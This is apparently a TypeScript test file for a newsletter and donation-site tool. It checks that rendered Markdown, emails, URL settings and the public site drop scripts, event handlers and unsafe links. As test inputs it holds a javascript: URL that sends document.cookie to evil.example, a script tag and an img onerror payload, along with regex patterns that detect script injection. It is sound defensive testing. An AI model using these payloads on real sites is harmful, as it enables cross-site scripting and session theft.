import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { emailProps } from '../../emails/content.ts';
import { writeIndexPage } from '../../emails/index-page.ts';
import { renderEmail, renderWebVersion } from '../../emails/render.ts';
import { renderMarkdown } from '../../reports/markdown.ts';
import type { PublicCampaign } from '../../reports/public/types.ts';
import { columnLetter } from '../../sync/problems.ts';
import type { RawWorkbook } from '../../sync/sources/source.ts';
import { validateWorkbook } from '../../sync/validate.ts';
import { BAD_URLS, SCRIPT_MARKDOWN } from '../fixtures/hostile/cells.ts';
import { tidings } from '../support/cli.ts';
import { buildDataset } from '../support/dataset.ts';
import { writeCsvFolder } from '../support/csv-folder.ts';
import { type StaticServer, serveStatic } from '../support/static-server.ts';
import { buildSite, copyFixtures, launchChromium } from '../support/site.ts';

/** What would run in a browser or an email client: script, frames, handlers, script URLs, forms. */
function expectNoScript(html: string): void {
  expect(html).not.toMatch(/<(script|iframe|svg|form|object|embed|style)\b/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/(javascript|data|vbscript):/i);
  expect(html).not.toMatch(/style=/i);
}

describe('staff Markdown, rendered', () => {
  it('keeps what a story needs and drops every script, frame, handler and non-web link', () => {
    const html = renderMarkdown(SCRIPT_MARKDOWN);
    expectNoScript(html);
    expect(html).toContain('<h1>Winter appeal</h1>');
    expect(html).toContain('<strong>you</strong>');
    expect(html).toContain('<a href="https://example.org/ok">ok</a>');
    expect(html).toContain('<a href="mailto:hello@example.org">mail us</a>');
    expect(html).toContain('<img src="https://example.org/a.png" alt="good" />');
    // The text of a link that went nowhere safe stays, without the link.
    expect(html).toContain('<a>click me</a>');
  });

  it('is the renderer of a newsletter story: the email and its web version hold no script, links still tagged', async () => {
    const dataset = buildDataset({
      contacts: [{ contact_id: 'C1', first_name: 'Amy', email: 'amy@example.org' }],
      mailings: [{ mailing_id: 'M1', name: 'n', subject: 'Winter', segment: 'all', status: 'sent', sent_at: '2026-11-01 10:00', public: 'yes' }],
      stories: [{ mailing_id: 'M1', title: 'Appeal', body: SCRIPT_MARKDOWN }],
      settings: { site_url: 'https://example.org' },
    });
    const [mailing] = dataset.mailings;
    // The templates style their own elements inline; the story is what staff wrote.
    const story = (html: string) => html.slice(html.indexOf('Appeal</h2>'), html.indexOf('</div></td>'));
    const web = await renderWebVersion(dataset, '2026-11-22', mailing);
    expectNoScript(story(web));
    expect(story(web)).toContain('Winter appeal');
    expect(web).not.toMatch(/<(script|iframe|svg|form)\b|\son[a-z]+\s*=|javascript:/i);
    expect(web).toContain('href="https://example.org/ok"');
    const sent = await renderEmail(emailProps(dataset, '2026-11-22', mailing, { contact: dataset.contacts[0], unsubscribeUrl: 'https://example.org/unsubscribe/?t=x' }));
    expectNoScript(story(sent.html));
    expect(sent.html).not.toMatch(/<(script|iframe|svg|form)\b|\son[a-z]+\s*=|javascript:/i);
    expect(sent.html).toContain('href="https://example.org/ok?utm_source=newsletter&amp;utm_medium=email&amp;utm_campaign=M1"');
  });
});

describe('web address settings and columns', () => {
  const validate = (settings: [string, string][], tabs: Record<string, Record<string, string>[]> = {}) => {
    const workbook: RawWorkbook = new Map([['settings', { name: 'settings', header: ['key', 'value'], rows: settings }]]);
    workbook.set('contacts', { name: 'contacts', header: ['contact_id', 'first_name'], rows: [] });
    workbook.set('donations', { name: 'donations', header: ['donation_id', 'contact_id', 'date', 'amount'], rows: [] });
    for (const [tab, rows] of Object.entries(tabs)) {
      const header = Object.keys(rows[0]);
      workbook.set(tab, { name: tab, header, rows: rows.map((r) => header.map((h) => r[h])) });
    }
    return validateWorkbook(workbook);
  };

  it.each(['site_url', 'logo_url', 'unsubscribe_form_url'])('%s refuses javascript:, data:, file: and plain http, naming the setting, and falls back to none', (key) => {
    for (const bad of BAD_URLS) {
      const { dataset, problems } = validate([[key, bad]]);
      expect((dataset.settings as Record<string, unknown>)[key]).toBeUndefined();
      expect(problems).toEqual([expect.objectContaining({ tab: 'settings', row: 2, column: 'value', column_letter: 'B', value: bad, message: expect.stringContaining(`${key}: write the full address`) })]);
    }
    const local = validate([[key, 'http://localhost:4321/forms/formResponse']]);
    expect(local.problems).toEqual([]);
    expect((local.dataset.settings as Record<string, unknown>)[key]).toBe('http://localhost:4321/forms/formResponse');
  });

  it('campaign and story links and images: a bad one is reported on its cell and left out, the row kept', () => {
    const campaign = { slug: 'winter', title: 'Winter', payment_url: BAD_URLS[0], image_url: BAD_URLS[1], body: 'hi' };
    const story = { mailing_id: 'M1', title: 'Story', link_url: BAD_URLS[2], image_url: BAD_URLS[3] };
    const mailing = { mailing_id: 'M1', name: 'n', subject: 's' };
    const { dataset, problems } = validate([], { campaigns: [campaign], mailings: [mailing], stories: [story] });
    expect(dataset.campaigns).toEqual([expect.objectContaining({ slug: 'winter', payment_url: undefined, image_url: undefined })]);
    expect(dataset.stories).toEqual([expect.objectContaining({ title: 'Story', link_url: undefined, image_url: undefined })]);
    const at = (tab: string, column: string, row: Record<string, string>) =>
      expect.objectContaining({ severity: 'warning', tab, row: 2, column, column_letter: columnLetter(Object.keys(row).indexOf(column)), value: row[column] });
    expect(problems).toEqual([
      at('campaigns', 'payment_url', campaign), at('campaigns', 'image_url', campaign),
      at('stories', 'link_url', story), at('stories', 'image_url', story),
    ]);
    expect(problems[0].message).toContain('starting with https://');
  });

  it('a javascript: unsubscribe form never reaches the public site data', async () => {
    const dir = await writeCsvFolder({ contacts: [{ contact_id: 'C1', first_name: 'Amy' }] }, { unsubscribe_form_url: 'javascript:fetch("//evil.example/"+document.cookie)', unsubscribe_form_field: 'entry.1', site_url: 'https://example.org' });
    const out = await mkdtemp(join(tmpdir(), 'tidings-hostile-out-'));
    const result = await tidings('report', '--source', `csv:${dir}`, '--out', out, '--as-of', '2026-11-22', '--no-backup');
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain('unsubscribe_form_url: write the full address');
    const site = JSON.parse(await readFile(join(out, 'public', 'site.json'), 'utf8'));
    expect(site.unsubscribe_form_url).toBeUndefined();
    expect(site.site_url).toBe('https://example.org');
    await Promise.all([dir, out].map((d) => rm(d, { recursive: true, force: true })));
  });
});

describe('in a browser', () => {
  let dir: string;
  let server: StaticServer;
  let browser: Browser;

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'tidings-hostile-site-'));
    const out = join(dir, 'out');
    await copyFixtures(out);
    const path = join(out, 'public', 'campaigns.json');
    const campaigns = JSON.parse(await readFile(path, 'utf8')) as PublicCampaign[];
    campaigns[0].body = SCRIPT_MARKDOWN;
    await writeFile(path, JSON.stringify(campaigns));
    await buildSite(out, join(dir, 'dist'));
    server = await serveStatic(join(dir, 'dist'), { mounts: { '/fixture-assets/': 'test/fixtures/assets' } });
    browser = await launchChromium();
  }, 300_000);

  afterAll(async () => {
    await browser?.close();
    await server?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('a hostile campaign story runs no script on the donate page', async () => {
    const context = await browser.newContext();
    // Nothing leaves this machine (a hostile image or frame would try).
    await context.route((url) => !url.href.startsWith(server.url), (route) => route.abort());
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on('dialog', async (d) => {
      dialogs.push(d.message());
      await d.dismiss();
    });
    await page.goto(`${server.url}/donate/winter-meals-2026/`, { waitUntil: 'load' });
    await page.locator('.story a', { hasText: 'click me' }).hover();
    await page.locator('.story p', { hasText: 'styled' }).hover();
    await page.waitForTimeout(300);
    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await page.locator('.story iframe, .story svg, .story script, .story form').count()).toBe(0);
    expect(await page.locator('.story a[href="https://example.org/ok"]').count()).toBe(1);
    await context.close();
  });

  it('the outbox review page shows each rendering in a sandbox where no script runs', async () => {
    const box = join(dir, 'outbox');
    // A rendering with script in it, as if a template or a pasted body let some through.
    await writeIndexPage(box, 'Dry run', [], [{ label: 'C1', subject: 'hi', htmlFile: '0001-C1.html' }]);
    await writeFile(join(box, '0001-C1.html'), '<!doctype html><title>mail</title><script>document.title = "ran"; top.document.title = "ran"</script><img src="x" onerror="document.title = \'ran\'">');
    const page = await browser.newPage();
    await page.goto(pathToFileURL(join(box, 'index.html')).href, { waitUntil: 'load' });
    await page.waitForTimeout(300);
    const frame = page.frames().find((f) => f.url().endsWith('0001-C1.html'))!;
    expect(await page.locator('iframe').getAttribute('sandbox')).toBe('');
    expect(await frame.title()).toBe('mail');
    expect(await page.title()).toBe('Dry run');
    await page.close();
  });
});
